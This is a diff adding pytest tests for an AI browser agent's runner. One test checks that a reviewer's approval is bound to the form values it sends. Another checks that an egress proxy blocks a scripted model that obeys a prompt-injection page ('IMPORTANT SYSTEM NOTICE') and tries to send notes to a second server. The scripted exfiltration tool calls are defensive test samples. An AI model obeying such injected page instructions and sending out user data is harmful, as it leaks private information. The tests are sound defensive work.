@@ -1,0 +1,142 @@
+"""Browser tasks through the runner: a form submitted only with a reviewer's approval that is
+bound to the values it sends, and a page that tells the model to send data elsewhere."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator, Iterator
+from typing import Any
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import async_playwright
+
+from agent.approvals import decide, pending_approval
+from agent.events import EgressDecided
+from agent.runner import Runner
+from agent.store import Store
+from policies import Gate
+from sandbox.limits import SandboxConfig, SandboxLimits
+from sandbox.manager import Sandboxes, store_scope
+from tools import Registry
+from tools.browser import registry as browser_tools
+
+from .conftest import scripted, tool_results
+from .site_server import Site, serve_site
+
+
+@pytest.fixture
+def sites() -> Iterator[tuple[Site, Site]]:
+    with serve_site() as site, serve_site() as elsewhere:
+        yield site, elsewhere
+
+
+@pytest_asyncio.fixture
+async def sandboxes(store: Store) -> AsyncIterator[Sandboxes]:
+    sandboxes = Sandboxes(SandboxConfig(pool_size=0), scope=store_scope(store.path))
+    yield sandboxes
+    await sandboxes.aclose()
+
+
+def _runner(store: Store, sandboxes: Sandboxes, turns: list[Any]) -> Runner:
+    return Runner(
+        store, Registry(browser_tools), Gate.default(), planner=scripted(turns), sandboxes=sandboxes
+    )
+
+
+async def test_a_submission_waits_for_a_reviewer_who_sees_its_values_and_is_asked_again_if_they_change(  # noqa: E501
+    store: Store, sandboxes: Sandboxes, sites: tuple[Site, Site]
+) -> None:
+    site, _ = sites
+    turns = [
+        {"plan": ["Sign up"]},
+        {"tool": "browser_open", "args": {"url": site.url("site/form.html")}},
+        {
+            "tool": "fill_form",
+            "args": {"fields": {"Full name": "Ann Lee", "Email": "ann@example.com"}},
+        },
+        {"tool": "browser_click", "args": {"target": "Create account"}},
+        {"tool": "browser_snapshot", "args": {}},
+        {"answer": "signed up"},
+    ]
+    runner = _runner(store, sandboxes, turns)
+    limits = SandboxLimits(network="proxy", allow_domains=(site.host,))
+    task_id = runner.create("sign Ann up", sandbox=limits)
+    try:
+        state = await runner.run(task_id)
+        assert state.status == "awaiting_approval"
+        request = pending_approval(state)
+        assert request is not None
+        assert f'"origin": "http://{site.host}"' in request.preview
+        assert '"name": "Ann Lee"' in request.preview
+        assert '"email": "ann@example.com"' in request.preview
+        assert site.posted() == []
+
+        # The page changes a value after the reviewer looked: the approval no longer holds.
+        box = await sandboxes.for_task(task_id, limits)
+        assert box.devtools is not None
+        async with async_playwright() as playwright:
+            browser = await playwright.chromium.connect_over_cdp(box.devtools)
+            page = browser.contexts[0].pages[0]
+            await page.fill("#name", "Mallory")
+            await browser.close()
+        decide(store, state, approved=True, reviewer="rev")
+        state = await runner.run(task_id)
+        assert state.status == "awaiting_approval"
+        again = pending_approval(state)
+        assert again is not None
+        assert again.approval_id != request.approval_id
+        assert '"name": "Mallory"' in again.preview
+        assert site.posted() == []
+
+        decide(store, state, approved=True, reviewer="rev")
+        state = await runner.run(task_id)
+        assert state.status == "done"
+        [posted] = site.posted()
+        assert (posted["name"], posted["email"]) == (["Mallory"], ["ann@example.com"])
+        results = tool_results(store, task_id)
+        assert "Thank you" in results[-1].content
+    finally:
+        await sandboxes.release(task_id)
+        assert runner.browsers is not None
+        await runner.browsers.aclose()
+
+
+async def test_a_page_that_tells_the_model_to_send_data_elsewhere_gets_nothing_out(
+    store: Store, sandboxes: Sandboxes, sites: tuple[Site, Site]
+) -> None:
+    site, elsewhere = sites
+    collect = elsewhere.url("collect")
+    turns = [
+        {"plan": ["Read the notes"]},
+        {"tool": "browser_open", "args": {"url": site.url(f"site/exfil.html?to={collect}")}},
+        {"tool": "browser_snapshot", "args": {}},
+        # The model obeys the page, both ways it says.
+        {"tool": "browser_open", "args": {"url": collect + "?notes=Revenue+grew+4%25"}},
+        {"tool": "browser_open", "args": {"url": site.url(f"site/exfil.html?to={collect}")}},
+        {"tool": "browser_click", "args": {"target": "Back up notes"}},
+        {"tool": "browser_wait", "args": {"target": "text=failed"}},
+        {"answer": "revenue grew 4%"},
+    ]
+    runner = _runner(store, sandboxes, turns)
+    limits = SandboxLimits(network="proxy", allow_domains=(site.host,))
+    task_id = runner.create("summarise the notes", sandbox=limits)
+    try:
+        state = await runner.run(task_id)
+        assert state.status == "done"
+        results = tool_results(store, task_id)
+        snapshot = results[1].content
+        assert "IMPORTANT SYSTEM NOTICE" in snapshot
+        assert snapshot.startswith("<page-content>")
+        refused = results[2]
+        assert not refused.ok
+        assert "refused by the egress policy" in refused.content
+        assert elsewhere.requests == []  # nothing arrived
+        events = [e.event for e in store.events(task_id)]
+        attempts = [e for e in events if isinstance(e, EgressDecided)]
+        out = [e for e in attempts if e.port == elsewhere.port]
+        assert {e.method for e in out} >= {"GET", "POST"}
+        assert not any(e.allowed for e in out)
+    finally:
+        await sandboxes.release(task_id)
+        assert runner.browsers is not None
+        await runner.browsers.aclose()
